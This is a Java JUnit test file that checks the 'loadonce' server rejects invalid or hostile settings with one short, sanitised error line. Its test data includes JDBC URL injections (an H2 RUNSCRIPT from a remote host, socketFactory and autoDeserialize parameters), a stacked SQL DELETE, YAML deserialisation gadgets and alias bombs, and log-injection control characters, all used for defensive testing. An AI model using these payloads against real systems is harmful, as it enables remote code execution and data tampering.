package io.loadonce.server;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * What {@code serve} does with settings that are wrong: it ends with exit code 2 and one line that
 * names the key, whatever the value is. The texts of the lines are checked beside the settings.
 */
class RefusedSettingsTest {

  /** A line is shorter, in bytes. */
  private static final int MAX_LINE_BYTES = 500;

  /** Any longer, and the settings were accepted. */
  private static final int TIMEOUT_SECONDS = 10;

  private static final String CONTROL = "a\r\nERROR root \u001b[31m\u0000b";

  @TempDir Path directory;

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          db-url  | jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://192.0.2.1/a.sql'
          db-url  | jdbc:h2:mem:a;IN\\IT=x
          db-url  | jdbc:h2:mem:a;TRACE_LEVEL_FILE=3
          db-url  | jdbc:h2:tcp://127.0.0.1/~/a
          db-url  | jdbc:postgresql://h/a?socketFactory=a.B
          db-url  | jdbc:postgresql://h/a?sslfactory=a.B
          db-url  | jdbc:postgresql://h/a?loggerFile=/x
          db-url  | jdbc:postgresql://h/a?preferQueryMode=simple
          db-url  | jdbc:postgresql://h/a?%73ocketFactory=a.B
          db-url  | jdbc:mariadb://h/a?allowLocalInfile=true
          db-url  | jdbc:mysql://h/a?autoDeserialize=true
          db-url  | jdbc:
          db-url  | http://192.0.2.1/
          query   | SELECT id FROM city
          query   | SELECT id FROM city WHERE id IN (:ids) OR id IN (:ids)
          query   | SELECT id FROM city WHERE id IN (:ids); DELETE FROM city
          query   | SELECT id FROM city WHERE id = ?
          query   | DELETE FROM city WHERE id IN (:ids)
          query   | CALL f(:ids)
          query   | SELECT id FROM city WHERE id IN (:ids) FOR UPDATE
          query   | SELECT id FROM city WHERE id IN (:ids) /*
          query   | SELECT 1 --:ids
          port    | 65536
          port    | 1e3
          pool-size | 0
          pool-size | 99999999999999999999
          negative-ttl | -1s
          ttl     | 1 day
          ttl     | 99999999999999999999h
          cache-bytes | 1TiB
          ttl-jitter | NaN
          key-type | blob
          host    | 192.0.2.1
          host    | no.such.host.invalid
          db-password-file | no/such/file
          listen  | maybe
          """)
  void serve_wrongValue_isOneLineThatNamesTheKey(String key, String value) throws Exception {
    assertRefused(key, Map.of(), "--" + key, value);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "port",
        "pool-size",
        "ttl",
        "cache-bytes",
        "ttl-jitter",
        "key-type",
        "db-url",
        "query",
        "listen",
        "db-password-file",
        "host"
      })
  void serve_controlCharactersOrALongValue_areOneShortLine(String key) throws Exception {
    assertRefused(key, Map.of(), "--" + key, CONTROL);
    assertRefused(key, Map.of(), "--" + key, "x".repeat(100_000));
  }

  @Test
  void serve_unknownNames_areOneShortLine() throws Exception {
    assertRefused("--nosuch", Map.of(), "--nosuch", "1");
    assertRefused("--n", Map.of(), "--n" + "o".repeat(10_000), "1");
    assertRefused("", Map.of(), "--" + CONTROL, "1");
    assertRefused("", Map.of(), CONTROL);
    assertRefused("LOADONCE_NOSUCH", Map.of("LOADONCE_NOSUCH", "1"));
    assertRefused("LOADONCE_", Map.of("LOADONCE_" + CONTROL, "1"));
    assertRefused("port", Map.of("LOADONCE_PORT", CONTROL));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "port=1\nport=2",
        "nosuch=1",
        "port=\\uZZZZ",
        "pool-size",
        "=1",
        "p\u001b[31m=1",
        "port=1\r\nERROR=2",
        "\u0000",
      })
  void serve_wrongPropertiesFile_isOneLine(String text) throws Exception {
    Path file = Files.writeString(directory.resolve("a.properties"), text);

    assertRefused("", Map.of(), "--config", file.toString());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "a: &a [*a]",
        "a: &a [1]\nb: &b [*a,*a]\nc: &c [*b,*b]",
        "[[[[[[[[[[[[[[[[[[[[[[",
        "{a: b",
        "!!javax.script.ScriptEngineManager [a]",
        "port: !!java.net.URL ['http://192.0.2.1/']",
        "--- 1\n--- 2",
        "\u0000",
        "\t- a",
        "ttl: \"\\x1b[31m\"",
        "? [a]\n: b",
        "lookups: [a]",
        "%YAML 9.9\n---\na: b",
      })
  void serve_wrongYaml_isOneLine(String text) throws Exception {
    Path file = Files.writeString(directory.resolve("a.yaml"), text);

    assertRefused("", Map.of(), "--config", file.toString());
  }

  @Test
  void serve_fileOfAnotherKind_isOneLine() throws Exception {
    byte[] binary = {(byte) 0xFF, (byte) 0xFE, 0, 1};
    for (String name : List.of("a.yaml", "a.properties")) {
      String file = Files.write(directory.resolve(name), binary).toString();
      assertRefused("config", Map.of(), "--config", file);
    }
    assertRefused("config", Map.of(), "--config", directory.toString());
    assertRefused("config", Map.of(), "--config", "no/such/file.yaml");
    assertRefused("config", Map.of(), "--config", CONTROL);
    String large = Files.writeString(directory.resolve("b.yaml"), "#".repeat(2 << 20)).toString();
    assertRefused("config", Map.of(), "--config", large);
    assertRefused("db-password-file", Map.of(), "--db-password-file", large);
  }

  private static void assertRefused(
      String named, Map<String, String> environment, String... arguments) throws Exception {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    ByteArrayOutputStream err = new ByteArrayOutputStream();
    int status =
        CompletableFuture.supplyAsync(
                () -> run(environment, arguments, out, err), Thread::startVirtualThread)
            .get(TIMEOUT_SECONDS, TimeUnit.SECONDS);
    String text = err.toString(StandardCharsets.UTF_8);

    assertThat(status).as(text).isEqualTo(2);
    assertThat(out.size()).isZero();
    assertThat(text).contains(named).endsWith("\n");
    // A YAML file may have several problems, each of which has a line.
    for (String line : text.split("\n", -1)) {
      if (!line.isEmpty()) {
        assertThat(line).startsWith("loadonce: ");
        assertThat(line.chars().filter(Character::isISOControl)).as(line).isEmpty();
        assertThat(line.getBytes(StandardCharsets.UTF_8)).as(line).hasSizeLessThan(MAX_LINE_BYTES);
      }
    }
  }

  /** Does not return if the settings are accepted; the ports are free ones then. */
  private static int run(
      Map<String, String> environment,
      String[] arguments,
      ByteArrayOutputStream out,
      ByteArrayOutputStream err) {
    Map<String, String> all = new HashMap<>();
    all.put("LOADONCE_PORT", "0");
    all.put("LOADONCE_ADMIN_PORT", "0");
    all.putAll(environment);
    try {
      return Main.run(
          List.of(arguments),
          all,
          new PrintStream(out, /* autoFlush= */ true, StandardCharsets.UTF_8),
          new PrintStream(err, /* autoFlush= */ true, StandardCharsets.UTF_8));
    } catch (InterruptedException e) {
      throw new AssertionError(e);
    }
  }
}
